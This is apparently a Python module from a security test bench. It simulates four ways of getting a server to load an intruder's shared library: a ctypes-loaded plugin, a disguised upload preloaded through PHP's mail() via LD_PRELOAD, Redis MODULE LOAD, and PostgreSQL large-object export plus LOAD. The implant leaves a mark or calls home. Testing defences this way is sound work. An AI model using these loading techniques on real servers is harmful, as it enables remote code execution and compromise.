# SPDX-License-Identifier: GPL-2.0
"""Libraries that are brought in and loaded."""

import base64
import pathlib
import re

from bench.attacks.attack import IMPLANT, IMPLANT_PORT, MARK, Attack, ByApp, ByPhp
from bench.clients import resp, sql
from bench.net import INTRUDER
from bench.patience import wait
from bench.servers.app import ROOT as APP
from bench.servers.nginx import ROOT as WEB
from bench.servers.server import write


class Library(Attack):
    """Code of the intruder's runs as soon as it is loaded: it leaves a mark and calls home."""

    file = pathlib.Path("/nowhere")
    is_quiet = True

    def setup(self):
        super().setup()
        MARK.unlink(missing_ok=True)
        self.home = self.listen(IMPLANT_PORT)

    def damaged(self):
        return MARK.exists() or b"implant" in self.home.got

    def cleanup(self):
        super().cleanup()
        MARK.unlink(missing_ok=True)
        self.file.unlink(missing_ok=True)


class AppPlugin(Library, ByApp):
    """The daemon writes it where it writes all the time, and loads it."""

    name = "library-app-plugin"
    file = pathlib.Path(f"{APP}/data/plugin.so")

    def run(self):
        self.python(f"""
import ctypes
with open({str(self.file)!r}, "wb") as file:
    file.write({IMPLANT.read_bytes()!r})
ctypes.CDLL({str(self.file)!r})
""")
        wait(self.damaged, 5)


class PhpPreload(Library, ByPhp):
    """It is uploaded, and preloaded into the program by which PHP sends mail."""

    name = "library-php-preload"
    file = pathlib.Path(f"{WEB}/uploads/photo.so")

    def run(self):
        text = base64.b64encode(IMPLANT.read_bytes()).decode()
        self.php(
            f"file_put_contents('{self.file}', base64_decode('{text}')); putenv('LD_PRELOAD={self.file}');"
            "mail('a@example.org', 'b', 'c');"
        )
        wait(self.damaged, 5)


class RedisModule(Library):
    """A module that was put on the machine in another way, loaded by who may configure redis."""

    name = "library-redis-module"
    servers = ("redis",)
    file = pathlib.Path("/srv/ftp/incoming/module.so")

    def setup(self):
        super().setup()
        write(self.file, IMPLANT.read_bytes(), 0o755)

    def run(self):
        try:
            resp.once("MODULE", "LOAD", str(self.file), source=INTRUDER)
        except resp.Refused:
            pass  # It is no module; but it was loaded to find that out.
        wait(self.damaged, 5)


class PostgresLibrary(Library):
    """A large object is written to a file, which is loaded as an extension."""

    name = "library-postgres-load"
    servers = ("postgresql",)
    file = pathlib.Path("/tmp/pg_extra.so")

    def run(self):
        connection = sql.Postgres(INTRUDER)
        (number,), = connection.ask(f"SELECT lo_from_bytea(0, decode('{IMPLANT.read_bytes().hex()}', 'hex'))")
        connection.ask(f"SELECT lo_export({int(re.sub('[^0-9]', '', number))}, '{self.file}')")
        try:
            connection.ask(f"LOAD '{self.file}'")
        except sql.Refused:
            pass  # It is no extension; but it was loaded to find that out.
        connection.close()
        wait(self.damaged, 5)


ATTACKS = [AppPlugin, PhpPreload, RedisModule, PostgresLibrary]
